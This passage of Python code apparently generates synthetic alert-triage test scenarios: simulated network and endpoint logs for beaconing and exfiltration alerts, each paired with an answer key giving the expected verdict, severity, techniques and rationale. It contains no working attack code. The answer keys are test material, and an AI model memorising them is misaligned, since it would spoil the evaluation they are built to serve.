    ev.background(["AZE-APP-01", "AZE-APP-02"], dcs=["AZE-ADDS-03"], density=0.4)
    zs = {}
    for host in ("AZE-APP-01", "AZE-APP-02"):
        ga = ev.sysproc(host, "C:\\WindowsAzure\\GuestAgent_2.7.41491.1176_2025-02-18_101245\\WindowsAzureGuestAgent.exe", 2688, user="SYSTEM")
        t = at("2025-03-13 09:00:12") + timedelta(seconds=7 if host == "AZE-APP-02" else 0)
        zs[host] = []
        k = 0
        while t < at("2025-03-13 12:00:00"):
            port = 32526 if k % 5 == 0 else 80
            zs[host].append(ev.conn(t, C(host).ip, "168.63.129.16", port, service="http", ob=ev.rng.randint(200, 420), rb=ev.rng.randint(300, 3000)))
            if k % 3 == 0:
                ev.netconn(host, t, ga, "168.63.129.16", port)
            t += timedelta(seconds=60 + ev.rng.uniform(-1, 1))
            k += 1
    ev.finalize()
    z = zs["AZE-APP-01"]
    alert = beacon_alert_ocsf("cl-beacon-0313-1200", "2025-03-13 12:00:20", "Periodic beaconing to rare external destination",
                              f"{len(z)} HTTP connections from {C('AZE-APP-01').ip} to 168.63.129.16 at a 60 s interval.",
                              C("AZE-APP-01").ip, "168.63.129.16", 80, [x["uid"] for x in z], sev="medium", count=len(z), interval=60.0)
    why = (f"168.63.129.16 is Azure's WireServer/host endpoint; the connections from AZE-APP-01 ({zref(z[0])} ...) go to ports 80 and 32526 and Sysmon attributes "
           f"them to WindowsAzureGuestAgent.exe. The host's inventory tags document guest-agent=WindowsAzureGuestAgent -> 168.63.129.16:80/32526, and AZE-APP-02 "
           "shows the identical pattern. Periodic, as detected, and expected.")
    expect = {"verdict": "benign_positive", "severity": "informational",
              "entities": [hkey("AZE-APP-01"), "168.63.129.16"], "source": [hkey("AZE-APP-01")], "impacted_assets": [], "techniques": ["T1071.001"],
              "must_not_cite": [hkey("AZE-AADC-01"), hkey("AZE-ADDS-03")], "why": why}
    return sid, "Azure guest agent heartbeat flagged as beaconing", ev, alert, expect, "json"


@scenario
def beacon_misfire_connection_count():
    sid = "beacon-misfire-connection-count"
    ev = Events(sid, "2025-03-13 12:00:00", "2025-03-13 18:00:00")
    ev.background(["BOS-LT-1088"], density=0.4, skip_users=("jlynch",))
    lap, dst = "BOS-LT-1088", "104.18.32.7"
    ip = C(lap).ip
    mt = machine_online(ev, lap, at("2025-03-13 12:05:00"))
    lid, ex = desktop_session(ev, lap, "jlynch", at("2025-03-13 12:05:30"))
    ch = ev.proc(lap, at("2025-03-13 12:10:00"), "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"",
                 ex, user="jlynch", logon_id=lid, integrity="Medium", session="1")
    offs = [0, 212, 1399, 1460, 3702, 7311, 9012, 11440, 14980, 18032, 20871]
    zs = []
    for o in offs:
        t = at("2025-03-13 12:14:00") + timedelta(seconds=o)
        zs.append(ev.conn(t, ip, dst, 443, service="ssl", ob=ev.rng.randint(2000, 30000), rb=ev.rng.randint(40_000, 2_000_000), duration=round(ev.rng.uniform(2, 90), 3)))
        ev.netconn(lap, t, ch, dst, 443)
    ev.finalize()
    alert = beacon_alert_ocsf("cl-beacon-0313-1800b", "2025-03-13 18:01:00", "Periodic beaconing to rare external destination",
                              f"1,440 connections from {ip} to {dst}:443 at a 60 s interval over 24 hours.", ip, dst, 443, [z["uid"] for z in zs],
                              count=1440, interval=60.0)
    why = (f"Zeek has only {len(zs)} connections from {ip} to {dst} in the period ({zref(zs[0])} ... {zref(zs[-1])}), at irregular gaps from 61 s to over an hour, "
           f"each with tens of kilobytes to megabytes downloaded - browser sessions of chrome.exe (jlynch, {lap}, machine TGT {rec(mt)}), not 1,440 fixed-interval "
           f"small beacons. The regularity and count the alert asserts are not in the data.")
    expect = {"verdict": "false_positive", "severity": "informational",
              "entities": [hkey(lap), ukey("jlynch"), dst], "source": [hkey(lap), ukey("jlynch")], "impacted_assets": [], "techniques": [],
              "must_not_cite": [hkey("BOS-LT-1089"), hkey("BOS-LT-1087")], "why": why}
    return sid, "Browsing reported as a 1,440-connection beacon", ev, alert, expect, "json"


@scenario
def exfil_warehouse_server_seen_only_in_zeek():
    sid = "exfil-warehouse-server-seen-only-in-zeek"
    ev = Events(sid, "2025-03-15 01:30:00", "2025-03-15 04:00:00")
    ev.background(["BOS-SQL-11", "BOS-APP-07"], density=0.5)
    src, dst = "BOS-SQL-11", "198.51.100.150"
    ip = C(src).ip
    zs = []
    for k in range(6):
        zs.append(ev.conn(at("2025-03-15 02:31:10", minutes=k * 9), ip, dst, 443, service="ssl", ob=ev.rng.randint(690_000_000, 760_000_000),
                          rb=ev.rng.randint(90_000, 200_000), duration=round(ev.rng.uniform(480, 530), 3)))
    for k in range(8):
        ev.conn(at("2025-03-15 01:40:00", minutes=k * 15), ip, "13.107.4.50", 443, service="ssl", ob=3100, rb=48_000)
    ev.finalize()
    total = sum(z["orig_bytes"] for z in zs)
    alert = ocsf_finding("cl-exfil-0315-0324", "2025-03-15 03:24:00", "Large outbound data transfer from server to rare destination",
                         f"{ip} sent {total / 1e9:.1f} GB to {dst}:443 in 6 TLS connections; destination not seen in the last 30 days.", "critical", CORELIGHT,
                         ("corelight-exfil-volume", "Outbound volume anomaly", "Exfiltration"), ["T1041", "T1567.002"],
                         evidences=[{"src_endpoint": ocsf_endpoint(ip), "dst_endpoint": ocsf_endpoint(dst, port=443),
                                     "connection_info": {"protocol_name": "tcp", "direction": "Outbound", "direction_id": 2}}],
                         data_sources=["Zeek conn.log"], first_seen="2025-03-15 02:31:10", last_seen="2025-03-15 03:24:00",
                         unmapped={"bytes_out": total, "uids": [z["uid"] for z in zs]})
    why = (f"Zeek records six TLS connections from {ip} = {src} (the DW-ANALYTICS warehouse) to {dst}:443 between 02:31 and 03:24 UTC on a Saturday, "
           f"{total / 1e9:.1f} GB out against ~1 MB in ({zref(zs[0])} ...); no other host talks to {dst}, the server's only other internet traffic is a few KB "
           "to Microsoft, and nothing in the inventory or network policy authorises a server to upload there. No Windows event covers it - the network record "
           "alone shows the warehouse being exfiltrated.")
    expect = {"verdict": "true_positive", "severity": "critical",
              "entities": [hkey(src), dst, "DW-ANALYTICS"], "source": [hkey(src)], "impacted_assets": [hkey(src), "DW-ANALYTICS"],
              "techniques": ["T1041"], "must_not_cite": [hkey("BOS-SQL-01"), hkey("BOS-BKP-01")], "why": why}
    return sid, "Warehouse server uploads 4 GB to an unknown host (Zeek only)", ev, alert, expect, "tsv"


def offsite(ev, day, dst="20.60.134.36", n=8):
    out = []
    for k in range(n):
        out.append(ev.conn(at(day, minutes=k * 11), C("BOS-BKP-01").ip, dst, 443, service="ssl", ob=ev.rng.randint(7_200_000_000, 7_900_000_000),
                           rb=ev.rng.randint(2_000_000, 4_000_000), duration=round(ev.rng.uniform(600, 660), 3)))
    return out


@scenario
def exfil_backup_server_to_unlisted_endpoint():
    sid = "exfil-backup-server-to-unlisted-endpoint"
    ev = Events(sid, "2025-03-13 02:30:00", "2025-03-13 05:00:00")
    ev.background(["BOS-BKP-01", "BOS-BKP-02"], density=0.4)
    prev = offsite(ev, "2025-03-12 03:04:40")
    zs = offsite(ev, "2025-03-13 03:10:05", dst="192.0.2.150")
    ev.finalize()
    total = sum(z["orig_bytes"] for z in zs)
    alert = ocsf_finding("cl-exfil-0313-0430", "2025-03-13 04:30:00", "Large outbound data transfer to rare destination",
                         f"{C('BOS-BKP-01').ip} sent {total / 1e9:.0f} GB to 192.0.2.150:443; destination not seen in the last 30 days.", "high", CORELIGHT,
                         ("corelight-exfil-volume", "Outbound volume anomaly", "Exfiltration"), ["T1041"],
                         evidences=[{"src_endpoint": ocsf_endpoint(C("BOS-BKP-01").ip), "dst_endpoint": ocsf_endpoint("192.0.2.150", port=443)}],
                         data_sources=["Zeek conn.log"], first_seen="2025-03-13 03:10:05", last_seen="2025-03-13 04:27:00",
                         unmapped={"bytes_out": total, "uids": [z["uid"] for z in zs]})
    why = (f"BOS-BKP-01's offsite copy is documented (description and inventory tag) as 03:00-05:00 UTC to the Azure Blob account at 20.60.134.36:443, as on the "
           f"previous night ({zref(prev[0])} ...). Tonight, inside the same window, the same volume (~{total / 1e9:.0f} GB in 8 TLS streams) went to 192.0.2.150 "
           f"({zref(zs[0])} ...), which is neither Azure nor seen before, and nothing went to 20.60.134.36. The backup repository was copied to an unknown party.")
    expect = {"verdict": "true_positive", "severity": "critical",
              "entities": [hkey("BOS-BKP-01"), "192.0.2.150", "BACKUP-REPOSITORY"], "source": [hkey("BOS-BKP-01")],
              "impacted_assets": [hkey("BOS-BKP-01"), "BACKUP-REPOSITORY"], "techniques": ["T1041"],
              "must_not_cite": ["20.60.134.36", hkey("BOS-BKP-02")], "why": why}
    return sid, "Backup server's offsite copy goes to an unknown address", ev, alert, expect, "json"


@scenario
def offsite_backup_copy_nightly():
    sid = "offsite-backup-copy-nightly"
    ev = Events(sid, "2025-03-13 02:30:00", "2025-03-13 05:00:00")
    ev.background(["BOS-BKP-01", "BOS-BKP-02"], density=0.4)
    p1 = offsite(ev, "2025-03-11 03:03:12")
    p2 = offsite(ev, "2025-03-12 03:04:40")
    zs = offsite(ev, "2025-03-13 03:05:01")
    ev.finalize()
    total = sum(z["orig_bytes"] for z in zs)
    alert = ocsf_finding("cl-exfil-0313-0432", "2025-03-13 04:32:00", "Large outbound data transfer from server",
                         f"{C('BOS-BKP-01').ip} sent {total / 1e9:.0f} GB to 20.60.134.36:443 in 8 TLS connections.", "high", CORELIGHT,
                         ("corelight-exfil-volume", "Outbound volume anomaly", "Exfiltration"), ["T1041"],
                         evidences=[{"src_endpoint": ocsf_endpoint(C("BOS-BKP-01").ip), "dst_endpoint": ocsf_endpoint("20.60.134.36", port=443)}],
                         data_sources=["Zeek conn.log"], first_seen="2025-03-13 03:05:01", last_seen="2025-03-13 04:22:00",
                         unmapped={"bytes_out": total, "uids": [z["uid"] for z in zs]})
    why = (f"The transfer ({zref(zs[0])} ...) is BOS-BKP-01's nightly offsite copy: source the Veeam server, destination 20.60.134.36:443 (the Azure Blob account "
           f"named in its description and inventory tag), 03:05-04:22 UTC inside the documented 03:00-05:00 window, and the same ~60 GB pattern ran the two previous "
           f"nights ({zref(p1[0])}, {zref(p2[0])}).")
    expect = {"verdict": "benign_positive", "severity": "informational",
              "entities": [hkey("BOS-BKP-01"), "20.60.134.36"], "source": [hkey("BOS-BKP-01")], "impacted_assets": [], "techniques": ["T1041"],
              "must_not_cite": [hkey("BOS-BKP-02"), hkey("BOS-SQL-11")], "why": why}
    return sid, "Nightly offsite backup copy to Azure", ev, alert, expect, "tsv"


@scenario
def exfil_misfire_update_download():
    sid = "exfil-misfire-update-download"
    ev = Events(sid, "2025-03-12 03:00:00", "2025-03-12 05:00:00")
    ev.background(["BOS-WSUS-01"], density=0.4)
    src, dst = "BOS-WSUS-01", "13.107.4.50"
    zs = [ev.conn(at("2025-03-12 03:20:00", minutes=k * 7), C(src).ip, dst, 80, service="http", ob=ev.rng.randint(500_000, 700_000),
                  rb=ev.rng.randint(600_000_000, 680_000_000), duration=round(ev.rng.uniform(300, 400), 3)) for k in range(8)]
    ev.finalize()
    ob = sum(z["orig_bytes"] for z in zs)
    rb = sum(z["resp_bytes"] for z in zs)
    alert = ocsf_finding("cl-exfil-0312-0420", "2025-03-12 04:20:00", "Large outbound data transfer from server",
                         f"{C(src).ip} ({src}) uploaded {rb / 1e9:.1f} GB to {dst}.", "high", CORELIGHT,
                         ("corelight-exfil-volume", "Outbound volume anomaly", "Exfiltration"), ["T1041"],
                         evidences=[{"src_endpoint": ocsf_endpoint(C(src).ip), "dst_endpoint": ocsf_endpoint(dst, port=80)}],
                         data_sources=["Zeek conn.log"], unmapped={"bytes_out": rb, "uids": [z["uid"] for z in zs]})
    why = (f"In the connections the alert sums ({zref(zs[0])} ...) {src} is the originator but sent only {ob / 1e6:.1f} MB (orig_bytes) while receiving "
           f"{rb / 1e9:.1f} GB (resp_bytes) from {dst}:80, a Microsoft update CDN address: the WSUS server downloading the monthly updates. The 'upload' is the "
           "response direction misread; almost nothing left the network.")
    expect = {"verdict": "false_positive", "severity": "informational",
              "entities": [hkey(src), dst], "source": [hkey(src)], "impacted_assets": [], "techniques": [],
              "must_not_cite": [hkey("BOS-BKP-01"), hkey("BOS-MECM-01")], "why": why}
    return sid, "WSUS download counted as a 5 GB upload", ev, alert, expect, "tsv"


@scenario
def beacon_masquerading_guest_agent():
    sid = "beacon-masquerading-guest-agent"
    ev = Events(sid, "2025-03-13 08:30:00", "2025-03-13 12:00:00")
    ev.background(["AZE-APP-02", "AZE-APP-01"], dcs=["AZE-ADDS-03"], density=0.4)
    host, c2 = "AZE-APP-02", "198.51.100.90"
    ip = C(host).ip
    ga = ev.sysproc(host, "C:\\WindowsAzure\\GuestAgent_2.7.41491.1176_2025-02-18_101245\\WindowsAzureGuestAgent.exe", 2688, user="SYSTEM")
    t = at("2025-03-13 08:30:12")
    k = 0
    while t < at("2025-03-13 12:00:00"):
        ev.conn(t, ip, "168.63.129.16", 32526 if k % 5 == 0 else 80, service="http", ob=ev.rng.randint(200, 420), rb=ev.rng.randint(300, 3000))
        if k % 3 == 0:
            ev.netconn(host, t, ga, "168.63.129.16", 32526 if k % 5 == 0 else 80)
        t += timedelta(seconds=60 + ev.rng.uniform(-1, 1))
        k += 1
    fake = "C:\\ProgramData\\WindowsAzure\\GuestAgent\\WindowsAzureGuestAgent.exe"
    inst = ev.service_install(host, at("2025-03-13 08:41:30"), "WindowsAzureTelemetryService", fake, start="auto start")
    p = ev.proc(host, at("2025-03-13 08:41:31"), fake, f"\"{fake}\" -service", ev.services(host), user="SYSTEM", integrity="System")
    t = at("2025-03-13 08:42:00")
    zs, ncs = [], []
    while t < at("2025-03-13 12:00:00"):
        zs.append(ev.conn(t, ip, c2, 80, service="http", ob=ev.rng.randint(310, 360), rb=ev.rng.randint(180, 240), duration=round(ev.rng.uniform(0.2, 0.6), 3)))
        ncs.append(ev.netconn(host, t, p, c2, 80))
        t += timedelta(seconds=60 + ev.rng.uniform(-5, 5))
    ev.finalize()
    alert = beacon_alert_ocsf("cl-beacon-0313-1200c", "2025-03-13 12:00:40", "Periodic beaconing to rare external destination",
                              f"{len(zs)} HTTP connections from {ip} to {c2}:80 at a 60 s interval.", ip, c2, 80, [z["uid"] for z in zs], count=len(zs), interval=60.0)
    why = (f"The documented guest agent on {host} is C:\\WindowsAzure\\GuestAgent_2.7...\\WindowsAzureGuestAgent.exe talking to 168.63.129.16:80/32526, and that "
           f"traffic is present as usual. The alerted beacon ({zref(zs[0])} ... {len(zs)} connections to {c2}:80, ~330 bytes out every 60 s) comes from a second "
           f"binary with the same name under C:\\ProgramData\\WindowsAzure\\GuestAgent ({rec(p)}, {rec(ncs[0])}), installed at 08:41 as a new auto-start service "
           f"'WindowsAzureTelemetryService' ({rec(inst)}) - same name and cadence as the benign agent, different path and destination: masquerading C2.")
    expect = {"verdict": "true_positive", "severity": "high",
              "entities": [hkey(host), c2], "source": [hkey(host)], "attack_path": [c2, hkey(host)], "impacted_assets": [hkey(host)],
              "techniques": ["T1071.001", "T1543.003"], "must_not_cite": [hkey("AZE-APP-01"), "168.63.129.16"], "why": why}
    return sid, "Fake Azure guest agent beacons next to the real one", ev, alert, expect, "json"


@scenario
def sharepoint_online_migration_upload():
    sid = "sharepoint-online-migration-upload"
    ev = Events(sid, "2025-03-12 21:30:00", "2025-03-13 02:00:00")
    ev.background(["BOS-APP-02"], density=0.4)
    app, dst = "BOS-APP-02", "13.107.136.10"
    ip = C(app).ip
    prev = [ev.conn(at("2025-03-11 22:06:40", minutes=k * 25), ip, dst, 443, service="ssl", ob=ev.rng.randint(1_500_000_000, 1_900_000_000),
                    rb=ev.rng.randint(8_000_000, 12_000_000), duration=round(ev.rng.uniform(1300, 1500), 3)) for k in range(8)]
    li = ev.logon(app, at("2025-03-12 22:02:10"), "svc-sharepoint", 4)
    sched = ev.svchost(app)
    spmt = ev.proc(app, at("2025-03-12 22:02:11"), "C:\\Program Files\\SharePoint Migration Tool\\microsoft.sharepoint.migrationtool.exe",
                   "\"C:\\Program Files\\SharePoint Migration Tool\\microsoft.sharepoint.migrationtool.exe\" -JobFile D:\\SPMT\\wave3.json -Unattended", sched,
                   user="svc-sharepoint", logon_id=li["logon_id"], integrity="High")
    zs, ncs = [], []
    for k in range(9):
        t = at("2025-03-12 22:05:30", minutes=k * 25)
        zs.append(ev.conn(t, ip, dst, 443, service="ssl", ob=ev.rng.randint(1_500_000_000, 1_900_000_000), rb=ev.rng.randint(8_000_000, 12_000_000),
                          duration=round(ev.rng.uniform(1300, 1500), 3)))
        ncs.append(ev.netconn(app, t, spmt, dst, 443))
    ev.finalize()
    total = sum(z["orig_bytes"] for z in zs)
    alert = ocsf_finding("cl-exfil-0313-0150", "2025-03-13 01:50:00", "Large outbound data transfer from server",
                         f"{ip} ({app}) sent {total / 1e9:.1f} GB to {dst}:443 in {len(zs)} TLS connections.", "high", CORELIGHT,
                         ("corelight-exfil-volume", "Outbound volume anomaly", "Exfiltration"), ["T1567.002"],
                         evidences=[{"src_endpoint": ocsf_endpoint(ip), "dst_endpoint": ocsf_endpoint(dst, port=443)}],
                         data_sources=["Zeek conn.log"], first_seen="2025-03-12 22:05:30", last_seen="2025-03-13 01:45:00",
                         unmapped={"bytes_out": total, "uids": [z["uid"] for z in zs]})
    why = (f"The {total / 1e9:.0f} GB ({zref(zs[0])} ...) leave {app} for {dst}, inside Microsoft 365's SharePoint range 13.107.136.0/22, between 22:05 and 01:45 UTC; "
           f"Sysmon attributes every connection to the SharePoint Migration Tool run unattended as svc-sharepoint from a scheduled task ({rec(spmt)}, {rec(ncs[0])}). "
           f"{app}'s inventory tag documents exactly this migration (CHG-3388, svc-sharepoint, to lmimutual.sharepoint.com, nightly 22:00-06:00 UTC, 10-21 March), "
           f"and the previous night shows the same pattern ({zref(prev[0])} ...).")
    expect = {"verdict": "benign_positive", "severity": "informational",
              "entities": [hkey(app), dst, ukey("svc-sharepoint")], "source": [hkey(app), ukey("svc-sharepoint")], "impacted_assets": [],
              "techniques": ["T1567.002"], "must_not_cite": [hkey("BOS-APP-03"), hkey("BOS-FS-01")], "why": why}
    return sid, "SharePoint Online migration upload in its change window", ev, alert, expect, "tsv"
